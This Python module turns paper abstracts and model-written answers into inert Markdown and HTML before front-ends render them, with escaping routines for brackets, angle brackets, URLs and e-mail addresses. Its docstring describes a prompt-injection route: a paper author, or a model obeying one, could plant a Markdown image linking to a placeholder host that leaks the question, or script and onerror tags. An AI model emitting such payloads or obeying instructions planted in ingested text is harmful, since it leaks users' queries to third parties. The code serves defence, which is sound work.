"""Text from the corpus and the model, made inert before a front-end shows it.

Answers quote abstracts, and a comparison's last sentence is written by the
model, so an answer may carry whatever an ingested paper's author (or a model
obeying them) put there: a Markdown image whose URL leaks the question
(``![x](http://host/?q=...)``), a link elsewhere, ``<script>``, an ``<img
onerror>``. The page's chatbot and API clients render answers as Markdown (and
Markdown passes HTML through), so every front-end passes such text through
here first. What comes out renders as the same words, but:

- no HTML element or ``<http://...>`` autolink can form (``<`` is escaped);
- no link, image or ``[label]: url`` definition can form: every ``[`` is escaped
  except a citation marker ``[n]`` that is not followed by ``(`` or ``:``;
- a bare URL (``http://``, ``https://``, ``ftp://``, ``www.``) or e-mail address,
  which GitHub-flavoured renderers turn into links, is broken up, unless it is
  exactly one of ``links`` (the papers' own URL/DOI pages): those stay links.

So nothing in an answer loads a remote resource, runs script, or links anywhere
but to a cited paper's own page.
"""

from __future__ import annotations

import html
import re
from typing import Callable, Iterable

# A "[" and, when it opens a citation marker that cannot become a link, the marker.
# ("[1][2]" stays: a reference link needs a "[2]: url" definition, which cannot form.)
BRACKET = re.compile(r"\[(?:\d+\](?![(:]))?")
# What GFM renderers auto-link, wherever it starts (marked links "xhttp://..." too).
BARE_URL = re.compile(r"(?i)(?:(?:https?|ftp)://|www\.)[^\s<>]*")
WWW = re.compile(r"(?i)www\.")
EMAIL_AT = re.compile(r"@(?=[\w-]+\.\w)")
TRAILING = ".,;:!?)'\"*_"  # punctuation a renderer leaves out of an auto-linked URL


def _backslash(char: str) -> str:
    return "\\" + char


def _entity(char: str) -> str:
    return f"&#{ord(char)};"


def _defuse(text: str, links: Iterable[str], escape: Callable[[str], str]) -> str:
    allowed = {link for link in links if link}

    def bracket(match: re.Match) -> str:
        found = match.group(0)
        return found if len(found) > 1 else escape("[")

    def url(match: re.Match) -> str:
        found = match.group(0)
        if found.rstrip(TRAILING) in allowed:
            return found
        # Every scheme and "www." in the run: "http://www.x" must not leave "www.x" to link.
        found = found.replace("://", escape(":") + "//")
        return WWW.sub(lambda m: m.group(0)[:3] + escape("."), found)

    text = BRACKET.sub(bracket, text)
    text = BARE_URL.sub(url, text)
    return EMAIL_AT.sub(lambda _: escape("@"), text)


def inert_markdown(text: str, links: Iterable[str] = ()) -> str:
    """Markdown (an answer, a question) with nothing active left but its formatting
    (bold, paragraphs, quotes), its [n] markers and bare links to `links`."""
    return _defuse(text.replace("<", "&lt;"), links, _backslash)


def inert_html(text: str) -> str:
    """Text for inside the page's own HTML: escaped as HTML, and safe as Markdown too,
    because the chatbot parses HTML that shares a line with text as Markdown (there,
    entities, unlike backslashes, never show in either reading)."""
    return _defuse(html.escape(text), (), _entity)
